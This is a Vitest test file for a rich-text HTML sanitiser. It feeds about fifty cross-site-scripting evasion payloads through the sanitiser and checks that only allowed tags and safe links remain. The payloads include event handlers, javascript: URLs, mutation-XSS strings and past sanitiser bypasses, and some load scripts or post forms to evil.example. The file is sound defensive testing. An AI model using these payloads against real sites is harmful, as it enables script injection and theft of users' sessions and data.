// @vitest-environment jsdom
import { describe, expect, test, vi } from 'vitest';
import { richText, sanitiseRichText } from './rich-text';
import { isSafeUrl } from './safe-url';

const ALLOWED = new Set([
  'P',
  'BR',
  'H2',
  'H3',
  'H4',
  'UL',
  'OL',
  'LI',
  'BLOCKQUOTE',
  'HR',
  'STRONG',
  'B',
  'EM',
  'I',
  'S',
  'SUB',
  'SUP',
  'A',
  'TABLE',
  'CAPTION',
  'THEAD',
  'TBODY',
  'TR',
  'TH',
  'TD',
]);
const ALLOWED_ATTRIBUTES = new Set(['href', 'target', 'rel', 'colspan', 'rowspan', 'scope', 'start', 'id']);

const EVASIONS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\n>alert(1)</script\n>',
  '<img src=x onerror=alert(1)>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<p title="</p><script>alert(1)</script>">x</p>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,x"></object><embed src="x">',
  '<link rel=stylesheet href=//evil.example/x.css><style>@import "//evil.example"</style>',
  '<meta http-equiv=refresh content="0;url=//evil.example"><base href="//evil.example/">',
  '<form action="//evil.example"><input name=code><button>OK</button></form>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="&#106;&#97;vascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a><a href="/\\evil.example">x</a>',
  '<a href="vbscript:x" target="_blank">x</a>',
  '<a href="/ok" onclick="alert(1)" style="color:red" class="x" formaction="javascript:x">x</a>',
  '<p style="background:url(javascript:alert(1))" onmouseover=alert(1)>x</p>',
  '<p/onclick=alert(1)>x</p>',
  '<h2 id="x" onfocus=alert(1) tabindex=0>x</h2>',
  '<details open ontoggle=alert(1)>x</details><video onerror=alert(1)><source></video>',
  '<body onload=alert(1)><html><head><title>x</title>',
  '<textarea><script>alert(1)</script></textarea><xmp><script>alert(1)</script></xmp>',
  '<template><script>alert(1)</script></template><slot>x</slot>',
  '<!--><script>alert(1)</script>--><![CDATA[<script>alert(1)</script>]]><?xml x ?>',
  '<x-custom onclick=alert(1)>x</x-custom><p is="x-custom">x</p>',
  '<table background="javascript:alert(1)"><tr><td background="x" onclick=1>x</td></tr></table>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<p>\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt></p>',
  '<<script>alert(1)//<</script>',
  '<a href="/ok\n">x</a><a href="">x</a><a>x</a>',
  '<a href="/ok" target="_blank" rel="opener">x</a><a href="/ok" target="_top">x</a>',
  // What passed the sanitiser before its versions 2.17.6 to 2.18.1, with wider lists of tags than ours (0022).
  '<svg><textarea><img src=x onerror=alert(1)></textarea></svg><math><xmp><img src=x onerror=alert(1)></xmp></math>',
  '<textarea></textarea/><img src=x onerror=alert(1)></textarea>',
  '<svg><a><animate attributeName="href" values="#safe;javascript:alert(1)"/><text>x</text></a></svg>',
  '<svg><svg:animate svg:attributeName="href" to="javascript:alert(1)"/></svg>',
  '<div><noscript></div><img src=x onerror=alert(1)></noscript>',
  '<iframe>'.repeat(500) + '<img src=x onerror=alert(1)>' + '</iframe>'.repeat(500),
];

/** As a browser reads it. */
function read(html: string): Element[] {
  const document = new DOMParser().parseFromString(`<!doctype html><body>${html}</body>`, 'text/html');
  return [...document.body.querySelectorAll('*')];
}

describe('formatted text', () => {
  test.each(EVASIONS)('loses whatever could act: %s', (html) => {
    const clean = sanitiseRichText(html);
    for (const element of read(clean)) {
      expect([clean, element.tagName, ALLOWED.has(element.tagName)]).toEqual([clean, element.tagName, true]);
      for (const { name, value } of element.attributes) {
        expect([clean, name, ALLOWED_ATTRIBUTES.has(name)]).toEqual([clean, name, true]);
        if (name === 'href') expect([value, isSafeUrl(value)]).toEqual([value, true]);
        if (name === 'target') expect(value).toBe('_blank');
      }
      if (element.getAttribute('target') === '_blank') expect(element.getAttribute('rel')).toBe('noopener');
    }
    expect(sanitiseRichText(clean)).toBe(clean);
  });

  test('keeps what it is for', () => {
    const html =
      '<h2 id="prices">Цены</h2><p>Связь за <strong>470 ₽</strong>, <em>без</em> <a href="/tariffs/all">условий</a><br />и тихо</p><ul><li>раз</li></ul><ol start="3"><li>три</li></ol><table><caption>Т</caption><tbody><tr><th scope="col" colspan="2">a</th></tr></tbody></table>';
    expect(richText().parse(html)).toBe(html);
  });

  test('keeps the words of a tag that it takes away, but not of a script', () => {
    expect(sanitiseRichText('<div>Слова <span>остаются</span></div><script>alert(1)</script>')).toBe(
      'Слова остаются',
    );
  });

  test('is refused above its length, before it is looked at', () => {
    expect(richText().safeParse('а'.repeat(60_000)).success).toBe(true);
    expect(richText().safeParse('а'.repeat(60_001)).success).toBe(false);
    const bomb = '<p>'.repeat(1_000_000);
    expect(richText().safeParse(bomb)).toMatchObject({ success: false });
  });

  test.each(['p', 'b', 'blockquote', 'ul', 'table', 'a', 'script', 'div', 'svg'])(
    'nested a thousand deep in <%s> comes out at most 20 deep',
    (tag) => {
      const bomb = `<${tag}>`.repeat(1000) + 'дно' + `</${tag}>`.repeat(1000);
      const clean = richText().parse(bomb);
      expect(depthOf(clean)).toBeLessThanOrEqual(20);
      expect(clean.length).toBeLessThan(bomb.length * 2);
    },
  );

  test('makes no more work than its length: links are judged once each', () => {
    const canParse = vi.spyOn(URL, 'canParse');
    const links = 1500;
    richText().parse('<a href="https://example.test/">x</a>'.repeat(links));
    expect(canParse.mock.calls.length).toBeLessThanOrEqual(links);
  });

  test('stays as short as it came, however hostile', () => {
    for (const part of [
      '<p',
      '<!--',
      '&',
      '&#',
      '<a href="',
      '"',
      "<p '",
      '</',
      '<![CDATA[',
      '<script>',
      '<p><b></p>',
    ]) {
      const html = part.repeat(Math.floor(60_000 / part.length));
      const clean = richText().parse(html);
      expect([part, clean.length <= html.length * 5]).toEqual([part, true]);
    }
  });
});

function depthOf(html: string): number {
  return Math.max(
    0,
    ...read(html).map((element) => {
      let depth = 0;
      for (let at: Element | null = element; at && at.tagName !== 'BODY'; at = at.parentElement) depth += 1;
      return depth;
    }),
  );
}
